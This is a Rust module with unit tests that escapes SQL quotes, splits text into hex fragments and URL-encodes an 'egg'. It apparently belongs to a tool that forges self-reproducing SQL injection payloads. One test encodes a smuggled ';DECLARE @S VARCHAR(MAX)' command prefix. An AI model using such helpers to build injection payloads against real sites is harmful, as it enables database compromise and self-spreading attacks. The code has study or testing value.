//! Quote escaping, hex fragmentation and the URL form of the egg.

use super::ForgeError;
use crate::minisql::to_hex;

/// Number of hex slots in the reassembly code.
pub const FRAGMENTS: usize = 4;
/// Bytes per slot.
pub const FRAGMENT_LEN: usize = 1000;
/// Largest text the four slots can carry.
pub const MAX_QUINE_LEN: usize = FRAGMENTS * FRAGMENT_LEN;

/// Double every single quote so `s` can sit inside a SQL string literal.
pub fn escape_sql_string(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len() + 8);
    for &b in s {
        out.push(b);
        if b == b'\'' {
            out.push(b'\'');
        }
    }
    out
}

/// `0x`-prefixed lowercase hex of each 1000-byte slice of `t`. Short or
/// missing tails give short fragments or a bare `0x`.
pub fn hex_fragments(t: &[u8]) -> Result<[Vec<u8>; FRAGMENTS], ForgeError> {
    if t.len() > MAX_QUINE_LEN {
        return Err(ForgeError::Oversize(t.len()));
    }
    Ok(std::array::from_fn(|k| {
        let lo = (k * FRAGMENT_LEN).min(t.len());
        let hi = ((k + 1) * FRAGMENT_LEN).min(t.len());
        let mut f = b"0x".to_vec();
        f.extend(to_hex(&t[lo..hi]));
        f
    }))
}

/// Whether `b` may appear in text that will be URL-encoded.
pub fn in_egg_alphabet(b: u8) -> bool {
    matches!(b, b'\r' | b'\n') || (0x20..=0x7e).contains(&b) && b != b'%'
}

/// Substitutions applied in order. `+` goes first so the `+` introduced
/// for spaces is never re-encoded.
pub const ENCODING_MAP: [(u8, &[u8]); 5] =
    [(b'+', b"%2B"), (b';', b"%3B"), (b' ', b"+"), (b'\r', b"%0D"), (b'\n', b"%0A")];

pub fn url_encode_egg(s: &[u8]) -> Result<Vec<u8>, ForgeError> {
    if let Some(offset) = s.iter().position(|&b| !in_egg_alphabet(b)) {
        return Err(ForgeError::Alphabet { offset, byte: s[offset] });
    }
    let mut cur = s.to_vec();
    for (from, to) in ENCODING_MAP {
        let mut next = Vec::with_capacity(cur.len());
        for &b in &cur {
            if b == from {
                next.extend_from_slice(to);
            } else {
                next.push(b);
            }
        }
        cur = next;
    }
    Ok(cur)
}

/// Percent-decoding plus `+` as space. Malformed escapes are kept literally.
pub fn url_decode_param(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        match s[i] {
            b'+' => {
                out.push(b' ');
                i += 1;
            }
            b'%' => match s
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok())
                .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                Some(b) => {
                    out.push(b);
                    i += 3;
                }
                None => {
                    out.push(b'%');
                    i += 1;
                }
            },
            b => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_examples() {
        assert_eq!(escape_sql_string(b"a'b"), b"a''b");
        assert_eq!(escape_sql_string(b""), b"");
        assert_eq!(escape_sql_string(b"''"), b"''''");
    }

    #[test]
    fn fragment_examples() {
        assert_eq!(hex_fragments(b"AB").unwrap(), [b"0x4142".to_vec(), b"0x".to_vec(), b"0x".to_vec(), b"0x".to_vec()]);
        let lens: Vec<usize> = hex_fragments(&[7u8; 2500]).unwrap().iter().map(|f| (f.len() - 2) / 2).collect();
        assert_eq!(lens, vec![1000, 1000, 500, 0]);
        assert!(hex_fragments(&[0u8; 4000]).is_ok());
        assert!(matches!(hex_fragments(&[0u8; 4001]), Err(ForgeError::Oversize(4001))));
    }

    #[test]
    fn encoding_examples() {
        assert_eq!(url_encode_egg(b";DECLARE @S VARCHAR(MAX)").unwrap(), b"%3BDECLARE+@S+VARCHAR(MAX)");
        assert_eq!(url_encode_egg(b"A+B").unwrap(), b"A%2BB");
        assert_eq!(url_encode_egg(b"x\r\ny").unwrap(), b"x%0D%0Ay");
        assert_eq!(url_decode_param(b"a%2Bb+c"), b"a+b c");
        assert!(matches!(url_encode_egg(b"100%"), Err(ForgeError::Alphabet { offset: 3, byte: b'%' })));
        assert!(url_encode_egg(&[0x80]).is_err());
        assert_eq!(url_decode_param(b"%zz%4"), b"%zz%4");
    }
}
